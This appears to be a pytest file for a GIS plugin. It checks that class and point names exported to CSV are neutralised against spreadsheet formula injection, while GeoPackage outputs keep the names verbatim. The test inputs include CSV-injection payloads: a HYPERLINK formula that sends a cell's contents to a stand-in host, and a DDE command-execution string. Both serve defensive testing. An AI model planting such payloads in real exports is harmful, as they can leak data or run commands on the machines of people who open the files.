"""Issue 11, defect 9: class names that a spreadsheet would run as formulas (=HYPERLINK(...), @SUM(...), +3+4,
-2+3) are written into CSV tables neutralised with a leading single quote (OWASP "CSV Injection"); numbers stay
numbers, and GeoPackage tables keep the names as they are. The reference reader is Python's csv module on the
raw file, and the rule checked is OWASP's: no cell starts with = + - @ tab or CR unless it is a plain number."""
import csv
import sqlite3

import numpy as np
import pytest
from osgeo import gdal, osr

from mining_eco_plugin.core.plain import spreadsheet_safe

gdal.UseExceptions()

HOSTILE = {1: '=HYPERLINK("http://example.invalid/x?leak="&A1,"Click")', 2: "@SUM(A1:A9)", 3: "+3+4", 4: "-2+3",
           5: "\t=1+1", 6: " =cmd|' /C calc'!A0"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(path):
    """Cells of the CSV file a spreadsheet would evaluate: starting (after blanks) with a trigger and not a number."""
    bad = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if cell.lstrip(" ").startswith(TRIGGERS):
                    try:
                        float(cell)
                    except ValueError:
                        bad.append(cell)
    return bad


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def write_classes(path, array):
    ds = gdal.GetDriverByName("GTiff").Create(str(path), array.shape[1], array.shape[0], 1, gdal.GDT_Int16)
    ds.SetGeoTransform((500000.0, 10.0, 0.0, 4000000.0, 0.0, -10.0))
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(32650)
    ds.SetProjection(srs.ExportToWkt())
    ds.GetRasterBand(1).SetNoDataValue(0)
    ds.GetRasterBand(1).WriteArray(array)
    ds = None
    return str(path)


@pytest.fixture
def hostile_inputs(tmp_path):
    a = np.array([[1, 2, 3], [4, 5, 6], [-3, 1, 2]], np.int16)
    b = np.array([[2, 2, 3], [1, 6, 6], [-3, 4, 2]], np.int16)
    table = tmp_path / "names.csv"
    with open(table, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["code", "name"])
        for code, name in HOSTILE.items():
            w.writerow([code, name])
        w.writerow([-3, "-3"])                 # a name that is a plain number stays a number
    return {"d1": write_classes(tmp_path / "lu_2000.tif", a), "d2": write_classes(tmp_path / "lu_2010.tif", b),
            "names": str(table)}


@pytest.mark.parametrize("text, safe", [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("+3+4", "'+3+4"), ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1+1", "'  =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"), ("Forest", "Forest"), ("a=b", "a=b"), ("-5", "-5"), ("+1.5e3", "+1.5e3"),
    ("-0.25", "-0.25"), ("", ""), (-2, -2), (3.5, 3.5), (None, None)])
def test_spreadsheet_safe_follows_owasp(text, safe):
    assert spreadsheet_safe(text) == safe


def test_transfer_matrix_and_legend_csv_hold_no_formula(provider, hostile_inputs, tmp_path):
    import processing
    res = processing.run("miningeco:transfermatrix", {
        "DATE1": hostile_inputs["d1"], "DATE2": hostile_inputs["d2"], "CLASS_TABLE": hostile_inputs["names"],
        "UNITS": 2, "OUTPUT_CHANGE": None, "OUTPUT_MATRIX": str(tmp_path / "matrix.csv"),
        "OUTPUT_LEGEND": str(tmp_path / "legend.csv")})
    for key in ("OUTPUT_MATRIX", "OUTPUT_LEGEND"):
        assert formula_cells(res[key]) == [], key
    matrix = {r["class"]: r for r in read_csv(res["OUTPUT_MATRIX"])}
    assert matrix["1"]["name"] == "'" + HOSTILE[1] and matrix["4"]["name"] == "'-2+3"
    assert matrix["-3"]["name"] == "-3"                         # numbers stay numbers
    assert int(matrix["1"]["total_date1"]) == 2 and int(matrix["-3"]["unchanged"]) == 1
    legend = {r["code"]: r for r in read_csv(res["OUTPUT_LEGEND"])}
    assert legend["12"]["from_name"] == "'" + HOSTILE[1] and legend["12"]["to_name"] == "'" + HOSTILE[2]
    assert int(legend["12"]["pixels"]) == 1


def test_class_areas_csv_holds_no_formula_and_gpkg_keeps_the_names(provider, hostile_inputs, tmp_path):
    import processing
    common = {"LAYERS": [hostile_inputs["d1"], hostile_inputs["d2"]], "CLASS_TABLE": hostile_inputs["names"],
              "UNITS": 2}
    res = processing.run("miningeco:classareas", dict(common, OUTPUT=str(tmp_path / "areas.csv")))
    assert formula_cells(res["OUTPUT"]) == []
    rows = read_csv(res["OUTPUT"])
    assert {r["name"] for r in rows if r["class"] == "3"} == {"'+3+4"}
    assert [float(r["area"]) for r in rows if r["class"] == "1" and r["date"] == "2000"] == [2.0]
    # a GeoPackage types its cells: nothing to neutralise, the names are kept verbatim
    res = processing.run("miningeco:classareas", dict(common, OUTPUT=str(tmp_path / "areas.gpkg")))
    with sqlite3.connect(str(res["OUTPUT"]).split("|")[0]) as db:
        table = db.execute("select table_name from gpkg_contents").fetchone()[0]
        names = {c: n for c, n in db.execute(f'select class, name from "{table}"')}
    assert names[1] == HOSTILE[1] and names[2] == HOSTILE[2]


def test_sampled_points_csv_neutralises_the_text_of_the_points(provider, hostile_inputs, tmp_path):
    # the points' own text fields are written into the CSV output of samplerasters too (kept and rejected points)
    import processing
    from osgeo import ogr
    path = str(tmp_path / "pts.gpkg")
    ds = ogr.GetDriverByName("GPKG").CreateDataSource(path)
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(32650)
    lyr = ds.CreateLayer("pts", srs, ogr.wkbPoint)
    lyr.CreateField(ogr.FieldDefn("site", ogr.OFTString))
    lyr.CreateField(ogr.FieldDefn("salt", ogr.OFTReal))
    for site, salt, x in (("@SUM(A1:A9)", -2.5, 500005.0), ("-2+3", 4.0, 500015.0), ("=1+1", 1.0, 600000.0)):
        f = ogr.Feature(lyr.GetLayerDefn())
        f.SetField("site", site)
        f.SetField("salt", salt)
        f.SetGeometry(ogr.CreateGeometryFromWkt(f"POINT ({x} 3999995)"))
        lyr.CreateFeature(f)
    ds = None
    res = processing.run("miningeco:samplerasters", {"POINTS": path, "RASTERS": [hostile_inputs["d1"]], "METHOD": 0,
                                                     "OUTPUT": str(tmp_path / "s.csv"),
                                                     "OUTPUT_REJECTED": str(tmp_path / "r.csv")})
    for key in ("OUTPUT", "OUTPUT_REJECTED"):
        assert formula_cells(str(res[key]).split("|")[0]) == [], key
    rows = read_csv(str(res["OUTPUT"]).split("|")[0])
    assert [(r["site"], float(r["salt"])) for r in rows] == [("'@SUM(A1:A9)", -2.5), ("'-2+3", 4.0)]
